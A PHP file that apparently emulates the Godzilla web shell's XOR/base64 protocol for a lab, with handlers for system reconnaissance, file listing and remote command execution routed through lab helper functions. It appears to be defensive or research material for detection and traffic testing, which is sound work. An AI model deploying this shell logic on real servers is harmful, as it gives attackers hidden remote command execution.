<?php require getenv('LAB_SHELL_LIB');
// Emulates Godzilla's PHP_XOR_BASE64 shell: pass=base64(xor(data)); the first call stores the payload
// in the session, later calls carry gzip'd parameters (name \x02 length value); answers are
// md5(pass.key)[0:16] . base64(xor(gzip(result))) . md5(pass.key)[16:].
@session_start();
$pass = 'pass'; $key = '3c6e0b8a9c15224a';
if (!isset($_POST[$pass])) exit;
$data = lab_xor(base64_decode($_POST[$pass]), $key, 1);
if (!isset($_SESSION['payload'])) {
    if (strpos($data, 'getBasicsInfo') !== false) $_SESSION['payload'] = md5($data);
    exit;
}
$params = [];
$plain = @gzdecode($data);
for ($i = 0; $plain !== false && $i < strlen($plain);) {
    $sep = strpos($plain, "\x02", $i);
    if ($sep === false) break;
    $name = substr($plain, $i, $sep - $i);
    $len = unpack('V', substr($plain, $sep + 1, 4))[1];
    $params[$name] = substr($plain, $sep + 5, $len);
    $i = $sep + 5 + $len;
}
switch ($params['methodName'] ?? '') {
    case 'test': $result = 'ok'; break;
    case 'getBasicsInfo': $result = "FileRoot : /\nCurrentDir : " . lab_sandbox() . "\nCurrentUser : " . get_current_user() . "\nOsInfo : " . php_uname() . "\n"; break;
    case 'getFile': $result = "ok\n" . lab_listing("\t"); break;
    case 'execCommand': $result = preg_match('/;([^;"]+)"/', $params['cmdLine'] ?? '', $c) ? lab_run($c[1]) : ''; break;
    default: $result = 'method is not exist';
}
echo substr(md5($pass . $key), 0, 16);
echo base64_encode(lab_xor(gzencode($result), $key, 1));
echo substr(md5($pass . $key), 16);
